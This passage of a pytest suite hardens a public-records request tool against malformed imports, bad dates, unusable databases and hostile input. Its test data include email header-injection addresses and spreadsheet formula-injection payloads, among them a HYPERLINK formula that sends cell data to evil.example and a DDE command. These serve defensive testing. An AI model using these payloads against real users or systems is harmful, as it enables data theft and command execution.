"""Under attack, round three (second half): each defect reproduced as the trial wrote it, and a
test walking every door of its class. Real files, the real command line and real databases
(the PostgreSQL half of a ``backend`` test runs where a test server is set)."""

from __future__ import annotations

import json
import re
import sqlite3
import threading
from collections.abc import Callable
from datetime import date
from pathlib import Path
from typing import Any

import pytest
import yaml
from click.testing import CliRunner

from recordskit.cli import cli
from recordskit.errors import InputFileError
from recordskit.intake.answers import request_from
from recordskit.logged import EARLIEST, LATEST, parse_details
from recordskit.service import Directory, UserError, open_log
from recordskit.tracking.sqlite import SqliteLog
from recordskit.tracking.transfer import export_log, import_log
from tests.test_hostile_round3 import (  # noqa: F401 (fixtures)
    catalogs,
    database,
    reader,
    translated,
)

Answers = Callable[..., dict[str, Any]]


def invoke(*args: str, env: dict[str, str | None] | None = None) -> Any:
    return CliRunner().invoke(cli, list(args), env=env)


def _source(tmp_path: Path, directory: Directory, answers: Answers, count: int = 1
            ) -> tuple[SqliteLog, list[str]]:
    """A SQLite log elsewhere with ``count`` requests, each received and then responded to."""
    source = SqliteLog(tmp_path / "source")
    ids = []
    for n in range(count):
        request = request_from(answers(requester__name=f"Family {n}", sent_on="2026-11-23"),
                               directory)
        source.record_request(request.fingerprint(), request, folder=f"/f{n}", by="ana")
        source.record_event(request.fingerprint(), date(2026, 11, 24),
                            parse_details("received", {}), by="ana")
        ids.append(request.fingerprint())
    return source, ids


def _export(tmp_path: Path, directory: Directory, answers: Answers, count: int = 1
            ) -> tuple[Path, list[dict[str, Any]], list[str]]:
    source, ids = _source(tmp_path, directory, answers, count)
    path = tmp_path / "log.jsonl"
    export_log(source, path)
    return path, [json.loads(line) for line in path.read_text().splitlines()], ids


def _lines(path: Path, items: list[dict[str, Any]]) -> Path:
    path.write_text("".join(json.dumps(item) + "\n" for item in items))
    return path


def _contents(log: Any) -> tuple[list[Any], list[Any]]:
    return log.request_rows(), log.event_rows()


# 3. Ids: an imported id has the shape the log makes; an exact id always wins.
def test_an_imported_id_that_extends_a_real_one_is_refused(
        backend: str, tmp_path: Path, directory: Directory, answers: Answers) -> None:
    """Defect 3 as reported: ``18ea49e193ff`` beside ``18ea49e193``."""
    path, items, [real] = _export(tmp_path, directory, answers)
    log = open_log()
    assert import_log(log, path) == (1, 1)
    longer = {**items[0], "id": real + "ff"}
    with pytest.raises(InputFileError, match="is not a request id as recordskit makes them"):
        import_log(log, _lines(tmp_path / "longer.jsonl", [longer]))
    for args in (["show", real], ["show", real[:6]]):
        shown = invoke(*args)
        assert shown.exit_code == 0, shown.output


BAD_IDS = ["18ea49e193ff", "18EA49E193", "18ea49e19", "18ea49e19g", " 18ea49e193", "",
           "18ea49e193\n", "\x1b[2J18ea49e1"]


@pytest.mark.parametrize("bad", BAD_IDS)
@pytest.mark.parametrize("field", ["id", "request_id"])
def test_every_imported_id_has_the_logs_shape(field: str, bad: str, tmp_path: Path,
                                              directory: Directory, answers: Answers) -> None:
    """The class: a request's id and an event's request id, each shape that is not ten
    lower-case hex digits, is refused naming the line."""
    path, items, _ids = _export(tmp_path, directory, answers)
    changed = [{**item, field: bad} if field in item else item for item in items]
    with pytest.raises(InputFileError, match=f"{field}: .*is not a request id"):
        import_log(open_log(), _lines(path, changed))


def test_an_exact_id_wins_over_a_longer_one(backend: str, directory: Directory,
                                            answers: Answers, tmp_path: Path) -> None:
    """The other half of the class: were a longer id in the log (written by an older
    release, or by hand), the exact id still names its own request, at every door that takes
    an id (show, log, followup, undo resolve it the same way)."""
    log = open_log()
    request = request_from(answers(sent_on="2026-06-12"), directory)
    real = request.fingerprint()
    log.record_request(real, request)
    log.record_request(real + "ff", request_from(answers(sent_on="2026-06-11"), directory))
    assert log.resolve(real) == real
    assert log.resolve(real + "f") == real + "ff"
    with pytest.raises(UserError, match="ambiguous"):
        log.resolve(real[:6])
    for args in (["show", real], ["log", real, "received", "--on", "2026-06-12"],
                 ["followup", real, "--out", str(tmp_path / "f")]):
        result = invoke(*args)
        assert "ambiguous" not in result.output, (args, result.output)


# 4. and 22. An import is one transaction, checked whole; it only adds.
def test_an_import_failing_late_writes_nothing(backend: str, tmp_path: Path,
                                               directory: Directory, answers: Answers) -> None:
    """Defect 4 as reported: a lone surrogate in ``recorded_by`` (SQLite crashed after writing
    the request), and a NUL (PostgreSQL refused it after committing the request)."""
    _path, items, _ids = _export(tmp_path, directory, answers)
    log = open_log()
    for bad in ("\ud800", "a\x00b"):
        event = next(item for item in items if item["type"] == "event")
        broken = [item if item is not event else {**event, "recorded_by": bad}
                  for item in items]
        target = tmp_path / "broken.jsonl"
        target.write_bytes("".join(json.dumps(item) + "\n" for item in broken).encode())
        with pytest.raises(InputFileError, match="recorded_by: holds a character no log"):
            import_log(log, target)
        assert _contents(log) == ([], [])
        result = invoke("log", "import", str(target))
        assert result.exit_code == 1 and "Traceback" not in result.output
        assert _contents(log) == ([], [])


UNSTORABLE = {
    "a NUL in the answers": ("answers", lambda a: {**a, "other_records": "x\x00y"}),
    "half a character in the answers": ("answers", lambda a: {**a, "other_records": "\udc80"}),
    "a NUL in a key of the details": ("details", lambda d: {**d, "no\x00te": "x"}),
    "half a character in the details": ("details", lambda d: {**d, "note": "\ud83d"}),
    "a NUL in the folder": ("folder", lambda f: "/a\x00b"),
    "half a character in the creator": ("created_by", lambda c: "\udcff"),
    "a NUL in the uid": ("uid", lambda u: u + "\x00"),
}


@pytest.mark.parametrize("shape", list(UNSTORABLE))
def test_an_import_stores_all_or_nothing(backend: str, shape: str, tmp_path: Path,
                                         directory: Directory, answers: Answers) -> None:
    """The class: whatever one line holds that a backend cannot store, the file is refused
    whole and the log is left as it was (a log that already holds requests included)."""
    log = open_log()
    kept = request_from(answers(requester__name="Kept", sent_on="2026-06-01"), directory)
    log.record_request(kept.fingerprint(), kept)
    before = _contents(log)
    path, items, _ids = _export(tmp_path, directory, answers, count=2)
    field, change = UNSTORABLE[shape]
    index = max(i for i, item in enumerate(items) if field in item)  # the file's last such
    items[index] = {**items[index], field: change(items[index][field])}
    with pytest.raises(InputFileError, match="holds a character no log can store"):
        import_log(log, _lines(path, items))
    assert _contents(log) == before


def test_an_import_never_undoes_an_event_outside_the_file(
        backend: str, tmp_path: Path, directory: Directory, answers: Answers) -> None:
    """Defect 22 as reported: an imported ``undo`` whose target is not in the file undid a
    real event."""
    path, _items, [real] = _export(tmp_path, directory, answers)
    log = open_log()
    import_log(log, path)
    before = _contents(log)
    [received] = [e.seq for e in log.get(real).active_events]
    undo = {"type": "event", "seq": 99, "request_id": real, "event": "undo",
            "on_date": "2026-11-25", "details": {"undoes": received, "event": "received"},
            "recorded_at": "2026-11-25T00:00:00+00:00", "recorded_by": "x",
            "uid": "f" * 32}
    for target in (received, 98, 99):
        line = {**undo, "details": {"undoes": target, "event": "received"}}
        with pytest.raises(InputFileError, match="which is not an event of request"):
            import_log(log, _lines(tmp_path / "undo.jsonl", [line]))
    assert _contents(log) == before
    assert [e.event for e in log.get(real).active_events] == ["received"]


def test_an_import_never_rewrites_a_request(backend: str, tmp_path: Path,
                                            directory: Directory, answers: Answers) -> None:
    """Defect 22: re-importing a known request with another folder overwrote it while saying
    "Added 0"; a differing copy of a known request said nothing."""
    path, items, [_real] = _export(tmp_path, directory, answers)
    log = open_log()
    import_log(log, path)
    before = _contents(log)
    changes: dict[str, Callable[[dict[str, Any]], dict[str, Any]]] = {
        "folder": lambda r: {**r, "folder": "/elsewhere"},
        "created_at": lambda r: {**r, "created_at": "2020-01-01T00:00:00+00:00"},
        "answers": lambda r: {**r, "answers": {**r["answers"], "other_records": "more"}},
        "created_by": lambda r: {**r, "created_by": "mallory"},
        "batch_id": lambda r: {**r, "batch_id": "batch-1"},
    }
    for name, change in changes.items():
        changed = [change(item) if item["type"] == "request" else item for item in items]
        with pytest.raises(InputFileError, match=f"already in the log, with another .*{name}"):
            import_log(log, _lines(tmp_path / "changed.jsonl", changed))
        result = invoke("log", "import", str(tmp_path / "changed.jsonl"))
        assert result.exit_code == 1 and "only adds" in result.stderr, result.output
        assert _contents(log) == before
    # An event the log holds, changed: refused the same way.
    changed = [{**item, "on_date": "2026-11-25"} if item["type"] == "event" else item
               for item in items]
    with pytest.raises(InputFileError, match=r"already in the log .* another on_date"):
        import_log(log, _lines(tmp_path / "changed.jsonl", changed))
    assert _contents(log) == before
    # The same file again adds nothing and says so.
    assert import_log(log, path) == (0, 0)
    assert _contents(log) == before


# 10. and 17. The import is read as a stream, within limits, and never a traceback.
def test_an_import_of_a_device_or_a_huge_line_is_refused_unread(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Defect 10: ``log import /dev/zero`` ran out of memory; a 300 MB line was refused only
    after 623 MB was in memory. A line is refused past its limit, a file past its own."""
    result = invoke("log", "import", "/dev/zero")
    assert result.exit_code == 1 and "is not a regular file" in result.stderr, result.output
    monkeypatch.setenv("RECORDSKIT_MAX_IMPORT_LINE_BYTES", "1000")
    huge = tmp_path / "huge.jsonl"
    with huge.open("wb") as handle:
        handle.write(b'{"type": "request", "id": "' + b"a" * 5_000_000 + b'"}\n')
    with pytest.raises(InputFileError, match=r"huge.jsonl:1: this line is over the limit of "
                                             r"1,000 bytes.*RECORDSKIT_MAX_IMPORT_LINE_BYTES"):
        import_log(open_log(), huge)
    monkeypatch.setenv("RECORDSKIT_MAX_IMPORT_BYTES", "3000")
    many = tmp_path / "many.jsonl"
    many.write_bytes(b"\n" * 2000 + b" " * 1000 + b"\n" + b"\n" * 2000)
    with pytest.raises(InputFileError, match=r"many.jsonl:2001: the file is over the limit of "
                                             r"3,000 bytes.*RECORDSKIT_MAX_IMPORT_BYTES"):
        import_log(open_log(), many)
    assert not open_log().exists()


@pytest.mark.slow  # 20 MB read under tracemalloc (5 s of CPU); the quick run keeps the others
def test_an_import_reads_a_line_at_a_time(tmp_path: Path, directory: Directory,
                                          answers: Answers) -> None:
    """Streamed: the largest read is one line (plus one byte), never the file."""
    import tracemalloc

    path, _items, _ids = _export(tmp_path, directory, answers)
    padding = (b" " * 99 + b"\n") * 200_000  # 20 MB of blank lines
    path.write_bytes(path.read_bytes() + padding)
    tracemalloc.start()
    try:
        assert import_log(open_log(), path) == (1, 1)
        _now, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 5_000_000, peak


TRACEBACKS = {
    "invalid UTF-8": b'{"type": "request", "id": "caf\xe9"}\n',
    "100,000-deep nesting": b'{"type": "event", "details": ' + b"[" * 100_000
    + b"]" * 100_000 + b"}\n",
    "60-deep nesting, past the limit of 40": b'{"type": "event", "details": ' + b"[" * 60
    + b"]" * 60 + b"}\n",
    "an integer of 5,000 digits": b'{"type": "event", "seq": ' + b"9" * 5000 + b"}\n",
    "a float too large": b'{"type": "event", "seq": 1e999999}\n',
    "a top-level list": b"[1, 2]\n",
    "a string": b'"request"\n',
    "a NUL byte": b'{"type": "request"\x00}\n',
    "a BOM": b'\xef\xbb\xbf{"type": "request"}\n',
    "half a surrogate pair, escaped": b'{"type": "request", "id": "\\ud800"}\n',
}


@pytest.mark.parametrize("shape", list(TRACEBACKS))
def test_no_import_line_is_a_traceback(shape: str, tmp_path: Path) -> None:
    """Defect 17 and its class: every line a file can hold is refused as a problem of its
    line, through the library and the command line."""
    path = tmp_path / "export.jsonl"
    path.write_bytes(b"\n" + TRACEBACKS[shape])
    with pytest.raises(InputFileError, match=r"export.jsonl:2[: ]") as refused:
        import_log(open_log(), path)
    if "nesting" in shape:
        assert "the nesting is over the limit of 40" in str(refused.value)
    result = invoke("log", "import", str(path))
    assert result.exit_code == 1 and "Traceback" not in result.output, result.output
    assert "export.jsonl:2:" in result.stderr


@pytest.mark.parametrize("column", ["answers", "details"])
def test_the_log_reads_deep_stored_json_as_damaged(column: str, directory: Directory,
                                                   answers: Answers) -> None:
    """Defect 17's other doors: the log's own rows (damaged by hand) go through the same
    bounded reader, and are reported as damaged, never a traceback."""
    log = open_log()
    request = request_from(answers(), directory)
    log.record_request(request.fingerprint(), request)
    log.record_event(request.fingerprint(), date(2026, 6, 12), parse_details("received", {}))
    deep = "[" * 100_000 + "]" * 100_000
    with sqlite3.connect(Path(log.location)) as db:
        table = "requests" if column == "answers" else "events"
        db.execute(f"UPDATE {table} SET {column} = ?", (deep,))  # noqa: S608
    damaged: list[Any] = []
    assert log.all(damaged) == []
    assert "nesting" in str(damaged[0])
    for args in (["status"], ["calendar", "--out", str(log.location) + ".ics"]):
        result = invoke(*args)
        assert "Traceback" not in result.output and "nesting" in result.output, result.output


# 16. An export exports what it can and names the rest.
def test_an_export_with_a_damaged_row_writes_the_rest_and_names_it(
        backend: str, tmp_path: Path, directory: Directory, answers: Answers) -> None:
    log = open_log()
    made = [request_from(answers(requester__name=f"F {n}"), directory) for n in range(3)]
    for request in made:
        log.record_request(request.fingerprint(), request)
        log.record_event(request.fingerprint(), date(2026, 6, 12),
                         parse_details("received", {}))
    damaged_request, damaged_event = made[0].fingerprint(), made[1].fingerprint()
    _damage(backend, "UPDATE requests SET answers = '{not json' WHERE id = ?", damaged_request)
    _damage(backend, "UPDATE events SET details = '[[' WHERE request_id = ?", damaged_event)
    path = tmp_path / "out.jsonl"
    result = invoke("log", "export", str(path))
    assert result.exit_code == 1 and "Traceback" not in result.output, result.output
    assert f"request {damaged_request}" in result.stderr
    assert f"of request {damaged_event}" in result.stderr
    assert "Wrote" in result.stderr
    lines = [json.loads(line) for line in path.read_text().splitlines()]
    assert {item["id"] for item in lines if item["type"] == "request"} == {
        made[1].fingerprint(), made[2].fingerprint()}
    assert [item["request_id"] for item in lines if item["type"] == "event"] == [
        made[2].fingerprint()]
    # What was written imports whole.
    target = SqliteLog(tmp_path / "target")
    assert import_log(target, path) == (2, 1)


def _damage(backend: str, statement: str, request_id: str) -> None:
    if backend:
        import psycopg

        with psycopg.connect(backend, autocommit=True) as db:
            db.execute(statement.replace("?", "%s"), (request_id,))
    else:
        with sqlite3.connect(Path(open_log().location)) as db:
            db.execute(statement, (request_id,))


# 2. Dates: every date that enters is within 1990–2100; arithmetic near the ends never raises.
def test_a_date_beyond_the_range_is_refused_at_every_door(
        tmp_path: Path, directory: Directory, answers: Answers,
        monkeypatch: pytest.MonkeyPatch) -> None:
    """Defect 2 as reported, and its class: 9999-12-30 (and 2101, and 1989) at each door."""
    path, items, [real] = _export(tmp_path, directory, answers)
    log = open_log()
    import_log(log, path)
    for bad in ("9999-12-30", "2101-01-01", "1989-12-31", "0001-01-01"):
        event = {**next(i for i in items if i["type"] == "event"), "uid": "e" * 32}
        for line in ({**event, "on_date": bad},
                     {**event, "event": "response", "details": {"kind": "extension",
                                                                "until": bad}}):
            with pytest.raises(InputFileError, match="outside 1990–2100"):
                import_log(log, _lines(tmp_path / "dates.jsonl", [line]))
        request = next(i for i in items if i["type"] == "request")
        for answer in ({"sent_on": bad}, {"date_from": bad}, {"date_to": bad}):
            line = {**request, "id": "0" * 10, "answers": {**request["answers"], **answer}}
            with pytest.raises(InputFileError, match="outside 1990–2100"):
                import_log(log, _lines(tmp_path / "dates.jsonl", [line]))
        # The command line's every date option.
        for args in (["log", real, "response", "--kind", "extension", "--on", "2026-06-12",
                      "--until", bad],
                     ["log", real, "received", "--on", bad],
                     ["status", "--due-before", bad]):
            result = invoke(*args)
            assert result.exit_code != 0 and "outside 1990–2100" in result.output, (
                args, result.output)
        # Today, as the environment sets it.
        result = invoke("status", env={"RECORDSKIT_TODAY": bad})
        assert result.exit_code == 1 and "outside 1990–2100" in result.output, result.output
        # An answers file, and a batch row.
        answers_file = tmp_path / "a.yaml"
        answers_file.write_text(yaml.safe_dump({**answers(), "sent_on": bad}))
        made = invoke("new", "--answers", str(answers_file), "--out", str(tmp_path / "o"))
        assert made.exit_code == 1 and "outside 1990–2100" in made.output, made.output
        rows = tmp_path / "rows.csv"
        rows.write_text("agency,records,requester.name,requester.email,delivery,sent_on\n"
                        f"bps,school-police-reports-shared-with-bric,Ana,a@example.org,email,"
                        f"{bad}\n")
        checked = invoke("batch", str(rows), "--check")
        assert checked.exit_code == 1 and "outside 1990–2100" in checked.output, checked.output
    assert [e.on_date for e in log.get(real).events] == [date(2026, 11, 24)]


@pytest.mark.parametrize("where", ["agency source", "record", "closure", "precedent"])
def test_a_directory_date_beyond_the_range_is_refused(where: str, tmp_path: Path) -> None:
    """The class, the directory's door: every date agencies.yaml holds."""
    from recordskit.service import check_directory
    from tests.conftest import frozen_agencies_data, yaml_text

    data = frozen_agencies_data()
    if where == "agency source":
        data["agencies"][0]["sources"][0]["verified_on"] = date(1900, 1, 1)
    elif where == "record":
        data["agencies"][0]["records"][0]["date_to"] = date(9999, 12, 30)
    elif where == "closure":
        data.setdefault("closures", []).append(
            {"date": date(9999, 12, 31), "name": "The end", "calendars": ["boston"]})
    else:
        data["precedents"][0]["published"] = date(2101, 1, 1)
    path = tmp_path / "agencies.yaml"
    path.write_text(yaml_text(data, sort_keys=False))
    _directory, problems = check_directory(path)
    assert any("outside 1990–2100" in p.message for p in problems), problems


@pytest.mark.parametrize("day", [EARLIEST, LATEST])
def test_dates_at_the_ends_of_the_range_never_raise(day: date, backend: str, tmp_path: Path,
                                                    directory: Directory,
                                                    answers: Answers) -> None:
    """Date arithmetic near the ends: a request sent, received, extended and followed up on
    the first and last days the range allows is shown, listed and put in a calendar."""
    log = open_log()
    request = request_from(answers(sent_on=day.isoformat()), directory)
    real = request.fingerprint()
    log.record_request(real, request)
    for kind, details in (("received", {}), ("response", {"kind": "extension",
                                                          "until": day.isoformat()}),
                          ("followed_up", {"until": day.isoformat()})):
        log.record_event(real, day, parse_details(kind, details))
    env = {"RECORDSKIT_TODAY": day.isoformat()}
    for args in (["status"], ["status", "--json"], ["show", real],
                 ["calendar", "--out", str(tmp_path / "c.ics")]):
        result = invoke(*args, env=env)
        assert result.exit_code == 0, (args, result.output)
        assert "Traceback" not in result.output


def test_the_range_is_the_one_readme_promises() -> None:
    assert date(1990, 1, 1) == EARLIEST and date(2100, 12, 31) == LATEST
    readme = (Path(__file__).parent.parent / "README.md").read_text()
    assert "dates outside 1990–2100 are refused" in readme
    assert re.search(r"1990.2100", readme)


# 15. and 24. The log is checked before a file is written; any name the system gives is stored.
NOT_UTF8 = "caf\udce9"
"""A name the system gave as bytes that are not UTF-8 (Latin-1 ``café``), as Python keeps it."""


def _rows_file(tmp_path: Path) -> Path:
    rows = tmp_path / "rows.csv"
    rows.write_text("row_id,agency,records,requester.name,requester.email,delivery,sent_on\n"
                    "fam-1,bps,school-police-reports-shared-with-bric,Ana,a@example.org,email,"
                    "2026-06-12\n")
    return rows


def _make(door: str, tmp_path: Path, answers: Answers, *extra: str,
          env: dict[str, str | None] | None = None) -> Any:
    if door == "new":
        path = tmp_path / "a.yaml"
        path.write_text(yaml.safe_dump(answers()))
        return invoke("new", "--answers", str(path), *extra, env=env)
    return invoke("batch", str(_rows_file(tmp_path)), *extra, env=env)


@pytest.mark.parametrize("door", ["new", "batch"])
@pytest.mark.parametrize("how", ["RECORDSKIT_USER", "--by"])
def test_a_name_that_is_not_utf8_is_logged(how: str, door: str, backend: str, tmp_path: Path,
                                           answers: Answers) -> None:
    """Defect 15 as reported (the request written, then logging crashed), and its class: each
    door that stores a name, with each way the name comes in."""
    out = str(tmp_path / "o")
    if how == "--by":
        made = _make(door, tmp_path, answers, "--out", out, "--by", NOT_UTF8)
    else:
        made = _make(door, tmp_path, answers, "--out", out, env={"RECORDSKIT_USER": NOT_UTF8})
    assert made.exit_code == 0, made.output
    [logged] = open_log().all()
    assert logged.created_by == "caf\ufffd"
    by = ["--by", NOT_UTF8] if how == "--by" else []
    env = {"RECORDSKIT_USER": NOT_UTF8} if how != "--by" else None
    recorded = invoke("log", logged.id, "received", "--on", "2026-06-12", *by, env=env)
    assert recorded.exit_code == 0, recorded.output
    assert open_log().get(logged.id).events[0].recorded_by == "caf\ufffd"
    assert invoke("status", "--json").exit_code == 0


@pytest.mark.parametrize("door", ["new", "batch"])
def test_a_folder_that_is_not_utf8_is_refused_before_writing(door: str, tmp_path: Path,
                                                             answers: Answers) -> None:
    out = tmp_path / NOT_UTF8
    made = _make(door, tmp_path, answers, "--out", str(out))
    assert made.exit_code == 1 and "not UTF-8" in made.output, made.output
    assert "Nothing was written" in made.output and not out.exists()
    assert not open_log().exists() or open_log().all() == []


def _garbage(home: Path) -> None:
    home.mkdir(parents=True, exist_ok=True)
    (home / "requests.sqlite3").write_bytes(b"not a database at all " * 100)


def _a_file(home: Path) -> None:
    home.rmdir()
    home.write_text("a file where the log's folder should be")


def _newer(home: Path) -> None:
    SqliteLog(home).create()
    with sqlite3.connect(home / "requests.sqlite3") as db:
        db.execute("PRAGMA user_version = 99")


def _tampered(home: Path) -> None:
    SqliteLog(home).create()
    with sqlite3.connect(home / "requests.sqlite3") as db:
        db.execute("PRAGMA user_version = -1")


def _no_table(home: Path) -> None:
    SqliteLog(home).create()
    with sqlite3.connect(home / "requests.sqlite3") as db:
        db.execute("PRAGMA foreign_keys = OFF")
        db.execute("DROP TABLE events")
        db.execute("DROP TABLE requests")


UNUSABLE = {"not a database": _garbage, "a file for its folder": _a_file,
            "a newer schema": _newer, "a tampered version": _tampered,
            "its tables dropped": _no_table}


@pytest.mark.parametrize("door", ["new", "batch"])
@pytest.mark.parametrize("log", list(UNUSABLE))
def test_an_unusable_log_is_found_before_a_file_is_written(
        log: str, door: str, tmp_path: Path, answers: Answers, _private_log: Path) -> None:
    """Defect 24 and its class: every way a log can be unusable, at each door that makes
    requests; the error says nothing was written, and nothing was."""
    UNUSABLE[log](_private_log)
    out = tmp_path / "o"
    made = _make(door, tmp_path, answers, "--out", str(out))
    assert made.exit_code == 1, made.output
    assert "Nothing was written" in made.output and "Traceback" not in made.output
    assert not out.exists() or list(out.iterdir()) == []
    # With --no-log the request is made, as the error says.
    assert _make(door, tmp_path, answers, "--out", str(out), "--no-log").exit_code == 0


@pytest.mark.parametrize("door", ["new", "batch"])
def test_a_log_that_may_only_be_read_is_found_before_writing(
        door: str, database: str, reader: str,  # noqa: F811 (the fixtures)
        tmp_path: Path, answers: Answers) -> None:
    """Defect 24 as reported: a PostgreSQL role that may only read the shared log."""
    open_log(database).create()
    out = tmp_path / "o"
    made = _make(door, tmp_path, answers, "--out", str(out), env={
        "RECORDSKIT_DATABASE_URL": reader})
    assert made.exit_code == 1 and "permission denied" in made.output, made.output
    assert "Nothing was written" in made.output
    assert not out.exists() or list(out.iterdir()) == []
    assert open_log(database).request_rows() == []


# 12. One address validator, strict, at every door an address comes in by.
HOSTILE_ADDRESSES = [
    "records@clerk.=?us-ascii?q?x=0D=0AContent-Type=3A_text/html?=.example",
    "=?utf-8?b?QmNjOiBldmlsQGV4YW1wbGUub3Jn?=@example.org",
    "rec?ords@example.org",
    "records\u200b@example.org",
    "records@exam\u00adple.org",
    "records@example.org\u200b",
    "records@exa\u202emple.org",
    '"records\\"@x"@example.org',
    "records(comment)@example.org",
    "records@[127.0.0.1]",
    "records@example",
    "records..x@example.org",
    ".records@example.org",
    "records@-example.org",
    "records@example_x.org",
    "records@example.org>, evil@example.org",
    "records@example.org\nBcc: evil@example.org",
    "r" * 65 + "@example.org",
    "records@" + "a" * 64 + ".org",
    "réc@example.org",
]
GOOD_ADDRESSES = ["ana@example.org", "a.b+c@sub.example.co.uk", "o'brien@example.org",
                  "PublicRecords@Boston.gov", "x-y_z@bücher.de", "a@b.io"]


def _address_doors(directory: Directory, answers: Answers, tmp_path: Path
                   ) -> dict[str, Callable[[str], Any]]:
    """Every door an address comes in by, each a function that takes it in."""
    from recordskit.intake.rows import check_rows, read_rows
    from recordskit.service import check_directory
    from tests.conftest import FROZEN_AGENCIES, frozen_agencies_data, yaml_text

    def requester(address: str) -> Any:
        return request_from(answers(requester__email=address), directory)

    def send_to(address: str) -> Any:
        return request_from(answers(send_to=address), directory)

    def directory_file(address: str) -> Any:
        data = frozen_agencies_data()
        data["agencies"][0]["records_officer"]["email"] = address
        path = tmp_path / "agencies.yaml"
        path.write_text(yaml_text(data, sort_keys=False))
        found, problems = check_directory(path)
        if problems:
            raise ValueError(problems)
        return found

    def edit(address: str) -> Any:
        from recordskit.service import init_user_copy

        copy = tmp_path / "config" / "agencies.yaml"
        if not copy.exists():
            init_user_copy("1.0", target=copy, shipped=FROZEN_AGENCIES)
        before = copy.read_bytes()
        result = invoke("agencies", "edit", "bps", str(copy), "--set",
                        f"records_officer.email={address}", "--yes")
        if result.exit_code != 0:
            assert copy.read_bytes() == before
            raise ValueError(result.output)
        return result

    def batch_row(address: str) -> Any:
        rows = tmp_path / "rows.csv"
        rows.write_text("row_id,agency,records,requester.name,requester.email,delivery,"
                        "sent_on\n", encoding="utf-8")
        with rows.open("a", encoding="utf-8", newline="") as handle:
            import csv

            csv.writer(handle).writerow(["r1", "bps", "school-police-reports-shared-with-bric",
                                         "Ana", address, "email", "2026-06-12"])
        good, problems, _warnings = check_rows(read_rows(rows), directory,
                                               today=date(2026, 6, 12))
        if problems:
            raise ValueError(problems)
        return good

    return {"requester.email": requester, "send_to": send_to, "agencies.yaml": directory_file,
            "agencies edit --set": edit, "a batch row": batch_row}


@pytest.mark.parametrize("door", [
    "requester.email", "send_to", "agencies.yaml",
    # 26 runs of the whole command (5 s of CPU); the quick run checks the same addresses
    # through the same directory check at the agencies.yaml door
    pytest.param("agencies edit --set", marks=pytest.mark.slow), "a batch row"])
def test_every_address_door_is_strict(door: str, directory: Directory, answers: Answers,
                                      tmp_path: Path) -> None:
    """Defect 12 and its class: each hostile address refused at each door; each good one
    taken."""
    take = _address_doors(directory, answers, tmp_path)[door]
    for address in HOSTILE_ADDRESSES:
        with pytest.raises((ValueError, UserError)):
            take(address)
    for address in GOOD_ADDRESSES:
        take(address)


def test_every_ascii_address_the_rules_take_reads_back_through_the_email_package() -> None:
    """An ASCII address is not given to the email package's parser (the cost of reading a
    stored request back): every one the rules take must read back from it unchanged, as the
    check made sure before. Thousands of addresses of the characters that matter (every
    special, dots and hyphens where the rules may stop them), each taken one checked."""
    import random
    import string
    from email.headerregistry import Address

    from recordskit.models import _check_email

    chance = random.Random(34)  # noqa: S311 (a repeatable mix, not a secret)
    plain, odd = "abcXYZ019", string.punctuation + " .-"

    def part(longest: int) -> str:  # mostly letters and digits, a fifth anything else
        return "".join(chance.choice(odd if chance.random() < 0.2 else plain)
                       for _ in range(chance.randint(1, longest)))

    taken = 0
    for _ in range(20_000):
        local = part(8)
        domain = ".".join(part(5) for _ in range(chance.randint(1, 3)))
        address = f"{local}@{domain}"
        try:
            _check_email(address)
        except ValueError:
            continue
        taken += 1
        assert Address(addr_spec=address).addr_spec == address, address
    assert taken > 1_000, taken


def test_the_drafts_addresses_are_the_validated_ones(directory: Directory,
                                                     answers: Answers) -> None:
    """Defect 12 as reported, through to the draft: From and To carry exactly the validated
    addresses, and no header but the draft's own."""
    import email
    import email.policy

    from recordskit.service import prepare_request

    request = request_from(answers(requester__email="ana@example.org",
                                   send_to="records@boston.gov"), directory)
    made = prepare_request(request, directory)
    message = email.message_from_bytes(made.files["email.eml"], policy=email.policy.default)
    assert message["To"].addresses[0].addr_spec == "records@boston.gov"
    assert message["From"].addresses[0].addr_spec == "ana@example.org"
    assert sorted(message.keys()) == sorted(["To", "From", "Subject", "Date", "Message-ID",
                                             "X-Unsent", "MIME-Version", "Content-Type"])


# 23. Header lines within RFC 5322's 998 characters, losslessly.
@pytest.mark.parametrize("name", ["A" * 19_990, "Ana " + "b" * 2_000, "é" * 5_000,
                                  "日本語" * 2_000 + " Tanaka", "x" * 61, "Ana María Pérez",
                                  "= ?utf-8?b?" + "Q" * 200])
@pytest.mark.parametrize("field", ["name", "organization"])
def test_every_header_line_is_within_the_limit(field: str, name: str, directory: Directory,
                                               answers: Answers) -> None:
    """Defect 23 and its class: a name of any length, in any script, gives a draft whose every
    line is within 78 characters (998 is the hard limit), and the name reads back whole."""
    import email
    import email.policy
    from email.header import decode_header, make_header

    from recordskit.service import prepare_request

    changes = {"requester__name": name} if field == "name" else {
        "requester__name": "", "requester__organization": name}
    made = prepare_request(request_from(answers(**changes), directory), directory)
    draft = made.files["email.eml"]
    head = draft.split(b"\n\n", 1)[0]
    assert max(len(line.rstrip(b"\r")) for line in head.split(b"\n")) <= 78
    message = email.message_from_bytes(draft, policy=email.policy.compat32)
    raw = message["From"]
    shown = str(make_header(decode_header(raw.rsplit("<", 1)[0].strip()))).strip().strip('"')
    assert shown.replace("\\", "") == name.replace("=?", "= ?")
    assert message["Bcc"] is None


# 13. Every spreadsheet and CSV cell, from any source, through the one cell serializer.
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-1+1", "@SUM(A1)",
            "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1", "\uff1d1+1", "=cmd|' /C calc'!A0"]


def _directory_with_title(tmp_path: Path, title: str) -> Path:
    from tests.conftest import frozen_agencies_data, yaml_text

    data = frozen_agencies_data()
    record = next(a for a in data["agencies"] if a["id"] == "bps")["records"][0]
    record["title"] = title
    path = tmp_path / "agencies.yaml"
    path.write_text(yaml_text(data, sort_keys=False, allow_unicode=True))
    return path


def _xlsx_cells(path: Path) -> list[Any]:
    from openpyxl import load_workbook

    workbook = load_workbook(path)
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def _csv_cells(path: Path) -> list[str]:
    import csv

    return [cell for row in csv.reader(path.open(newline="", encoding="utf-8")) for cell in row]


# Four commands a shape (0.15 s of CPU): the quick run tries the shape reported and the two
# that test_attack's CSV test lacks (spaces before, a full-width sign), CI all ten.
@pytest.mark.parametrize("formula", [
    formula if formula in (FORMULAS[0], "  =1+1", "\uff1d1+1")
    else pytest.param(formula, marks=pytest.mark.slow) for formula in FORMULAS])
